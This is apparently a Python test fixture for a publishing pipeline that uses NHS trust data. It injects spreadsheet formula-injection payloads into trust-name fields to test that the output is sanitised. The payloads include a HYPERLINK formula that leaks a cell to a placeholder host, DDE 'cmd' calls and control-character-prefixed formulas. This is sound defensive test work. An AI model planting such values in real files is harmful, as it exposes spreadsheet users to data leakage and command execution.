"""Inputs and fakes shared by the publish reliability cases (tests/reliability/test_publish_*.py)."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

#: Trust names a hostile or careless publisher could put in NHS England's files (formula injection).
HOSTILE_NAMES = {
    "R0A": '=HYPERLINK("http://example.invalid/?leak="&A1,"Manchester University NHS Foundation Trust")',
    "R0B": "=cmd|' /C calc'!A0",
    "R0D": "@SUM(1+1)*cmd|' /C calc'!A0",
    "R1F": "+1+1",
}
#: Names in the ODS reference file (etr.csv), shown where neither a NOF file nor the A&E system mapping names the
#: trust (dim_trust: closed and merged trusts such as RAP, R1C).
HOSTILE_ODS_NAMES = {"RAP": "-2+3+cmd|' /C calc'!A0", "R1C": "\t=2+2", "RRP": "\r=3+3"}
#: A trust of the league tables that the ODS reference file shows as closed before every quarter (close date
#: 31 March 2024): it has no ODS record valid at the quarter, so no ICB; it must be reported, not dropped silently.
NOT_IN_ODS_AT_QUARTER = "RWF"
ODS_CLOSE_DATE_COLUMN = 11

NOF_ACUTE_DATA = Path("nhse_nof") / "nhs-oversight-framework-acute-trust-data.csv"
ODS_ETR = Path("reference") / "etr.csv"


def hostile_data(source: Path, target: Path) -> Path:
    """A copy of the data folder ``source`` at ``target`` with formula-like trust names injected where trust names
    come from (NHS England's NOF data file and the ODS reference ``etr.csv``) and one trust closed in ODS."""
    shutil.copytree(source, target)
    nof = target / NOF_ACUTE_DATA
    rows = list(csv.reader(io.StringIO(nof.read_text(encoding="utf-8-sig"))))
    header = rows[0]
    code, name = header.index("Trust_code"), header.index("Trust_name")
    for row in rows[1:]:
        if row and row[code] in HOSTILE_NAMES:
            row[name] = HOSTILE_NAMES[row[code]]
    _write_csv(nof, rows, encoding="utf-8-sig")
    etr = target / ODS_ETR
    ods_rows = [row for row in csv.reader(io.StringIO(etr.read_text(encoding="utf-8"))) if row]
    for row in ods_rows:
        if row[0] in HOSTILE_ODS_NAMES:
            row[1] = HOSTILE_ODS_NAMES[row[0]]
        if row[0] == NOT_IN_ODS_AT_QUARTER:
            row[ODS_CLOSE_DATE_COLUMN] = "20240331"
    _write_csv(etr, ods_rows, encoding="utf-8", quoting=csv.QUOTE_ALL)
    return target


def _write_csv(path: Path, rows: list[list[str]], encoding: str, quoting: int = csv.QUOTE_MINIMAL) -> None:
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle, lineterminator="\n", quoting=quoting).writerows(rows)
